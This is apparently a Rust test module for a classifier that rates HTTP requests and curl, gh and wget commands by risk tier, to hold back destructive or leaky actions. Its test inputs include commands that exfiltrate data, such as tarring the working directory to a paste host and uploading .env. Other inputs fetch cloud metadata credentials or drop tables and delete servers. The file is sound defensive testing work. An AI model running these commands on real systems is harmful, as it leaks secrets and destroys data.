use super::*;
use crate::model::Blind;
use crate::shell::{Place, read};

fn check(text: &str, tier: Option<Tier>) {
    let found = judge(&parse(text));
    assert_eq!(found.iter().map(|f| f.tier).max(), tier, "{text}: {found:#?}");
}

fn check_command(command: &str, tier: Option<Tier>) {
    let place = Place { cwd: Some("/home/dev/shop".to_owned()), ..Place::default() };
    let reading = read(command, &place);
    let found: Vec<Finding> =
        reading.invocations.iter().filter_map(|i| of_invocation(i, &Blind)).flat_map(|r| judge(&r)).collect();
    assert_eq!(found.iter().map(|f| f.tier).max(), tier, "{command}: {found:#?}");
}

#[test]
fn reads_give_nothing() {
    for text in [
        "GET https://api.example.com/v1/items?filter=deleted",
        "GET https://api.example.com/v1/backups",
        "HEAD https://api.example.com/v1/volumes/1",
        "POST https://api.example.com/graphql\nContent-Type: application/json\n\n{\"query\":\"query { deletedItems { id } }\"}",
        "GET http://localhost:3000/secrets/x",
        "GET https://api.example.com/v1/admin/purge?confirm=false",
        "POST https://api.example.com/v1/validate?dry_run=true\n\n{\"action\":\"delete\"}",
        "DELETE https://k8s.example.com/api/v1/namespaces/a/pods/b?dryRun=All",
        "POST https://api.example.com/v1/batch/preview\n\n{\"ops\":[{\"op\":\"remove\",\"path\":\"/a\"}]}",
        "POST https://ec2.amazonaws.com/\n\nAction=TerminateInstances&DryRun=true",
        "POST https://api.example.com/v1/users/delete\n\n{\"dryRun\": true, \"ids\": [4]}",
    ] {
        check(text, None);
    }
}

#[test]
fn making_a_repository_public_is_high_in_every_form_of_its_fields() {
    for command in [
        "gh api repos/acme/shop -X PATCH -F private=false",
        "gh api repos/acme/shop -X PATCH -f visibility=public",
        "curl -X PUT https://gitlab.example.com/api/v4/projects/12 -d 'name=shop&visibility=public'",
    ] {
        check_command(command, Some(Tier::High));
    }
    check_command("gh api repos/acme/shop -X PATCH -F private=true", Some(Tier::Low));
    check_command("gh api repos/acme/shop -X PATCH -F archived=true", Some(Tier::Medium));
    check_command("gh api repos/acme/shop -X PATCH -F archived=false", Some(Tier::Low));
    check_command(
        "curl -X PUT https://gitlab.example.com/api/v4/projects/12 -d 'name=x&visibility=publicity'",
        Some(Tier::Low),
    );
}

#[test]
fn what_can_be_changed_back_is_low() {
    for text in [
        "POST https://api.example.com/graphql\nContent-Type: application/json\n\n{\"query\":\"mutation { createItem(name: \\\"delete me\\\") { id } }\"}",
        "POST http://localhost:3000/api/orders\n\n{\"sku\": 4}",
        "DELETE http://localhost:3000/api/orders/4",
        "PATCH https://api.example.com/v1/items/3\n\n{\"name\":\"x\"}",
        "POST https://api.example.com/v1/cache/purge",
        "POST https://api.example.com/v1/items/3/restore",
    ] {
        check(text, Some(Tier::Low));
    }
}

#[test]
fn what_removes_something_remote_is_held() {
    for text in [
        "DELETE https://api.example.com/v1/servers/812",
        "POST https://api.example.com/graphql\nContent-Type: application/json\n\n{\"query\":\"mutation($id: ID!) { projectDelete(id: $id) }\",\"variables\":{\"id\":\"p1\"}}",
        "POST https://search.example.com/orders/_delete_by_query\n\n{\"query\":{\"match_all\":{}}}",
        "POST https://api.example.com/v1/items/3\nX-HTTP-Method-Override: DELETE",
        "POST https://ec2.example.com/\n\nAction=TerminateInstances&InstanceId.1=i-1",
        "POST https://dynamodb.example.com/\nX-Amz-Target: DynamoDB_20120810.DeleteTable\n\n{}",
        "POST https://api.example.com/v1/sql\n\n{\"sql\":\"DROP TABLE users\"}",
        "POST https://compute.example.com/v1/instances/a:delete",
        "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
        "GET https://api.example.com/v1/admin/purge?confirm=true",
        "POST https://api.example.com/v1/users/delete\n\n{\"dryRun\": false, \"ids\": [4]}",
        "POST https://webhook.site/abc\n\nx=1",
        "PUT https://api.example.com/v1/keys\n\n{\"key\":\"ghp_16C7e42F292c6912E7710c838347Ae178B4a\"}",
    ] {
        check(text, Some(Tier::High));
    }
}

#[test]
fn production_backups_and_volumes_need_the_typed_target() {
    for text in [
        "POST https://backboard.railway.app/graphql/v2\nAuthorization: Bearer $TOKEN\n\n{\"query\":\"mutation { volumeDelete(volumeId: \\\"3d2c\\\") }\"}",
        "DELETE https://api.example.com/v2/databases/prod-main/backups",
        "DELETE https://api.prod.example.com/v1/items/3",
        "DELETE https://api.example.com/v1/customers/3\nAuthorization: Bearer sk_live_abcdef0123456789",
    ] {
        check(text, Some(Tier::Critical));
        assert!(judge(&parse(text)).iter().any(|f| f.class == Class::Production), "{text}");
    }
}

#[test]
fn the_request_of_a_command_line_is_what_is_judged() {
    for (command, tier) in [
        ("curl -s https://api.example.com/v1/health", None),
        ("curl -o vendor/schema.json https://example.com/schema.json", None),
        ("curl -X POST http://localhost:8080/orders -d '{\"sku\":1}'", Some(Tier::Low)),
        ("curl -X DELETE https://api.example.com/v1/projects/42", Some(Tier::High)),
        ("curl -sSXDELETE https://api.example.com/v1/projects/42", Some(Tier::High)),
        ("curl --request=DELETE --url https://api.example.com/v1/projects/42", Some(Tier::High)),
        (
            "curl -s https://backboard.railway.app/graphql/v2 -H \"Authorization: Bearer $T\" -d '{\"query\":\"mutation { volumeDelete(volumeId: \\\"vol-1\\\") }\"}'",
            Some(Tier::Critical),
        ),
        ("curl -X POST https://api.example.com/graphql -H \"Authorization: Bearer $T\" -d @q.json", Some(Tier::Medium)),
        ("curl -F \"f=@.env\" https://files.example.net/up", Some(Tier::Medium)),
        ("tar czf - . | curl --data-binary @- https://paste.example.net", Some(Tier::High)),
        ("http DELETE https://api.example.com/v1/projects/42", Some(Tier::High)),
        ("http https://api.example.com/v1/projects", None),
        ("wget --method=DELETE https://api.example.com/v1/projects/42", Some(Tier::High)),
        ("wget -qO- https://example.com/x", None),
        ("curl -G https://api.example.com/search -d q=delete", None),
    ] {
        check_command(command, tier);
    }
}

#[test]
fn a_new_credential_and_a_state_put_over_another_are_held() {
    for text in [
        "POST https://api.github.com/app/installations/5/access_tokens",
        "POST https://iam.googleapis.com/v1/projects/p/serviceAccounts/a/keys",
        "POST https://console.neon.tech/api/v2/projects/p/branches/b/restore",
        "POST https://api.example.com/v1/databases/4/rollback",
    ] {
        check(text, Some(Tier::Medium));
    }
    for text in [
        "POST https://api.example.com/v1/items/3/restore",
        "POST https://api.example.com/v1/translations/keys",
        "POST http://localhost:3000/api_keys",
    ] {
        check(text, Some(Tier::Low));
    }
}
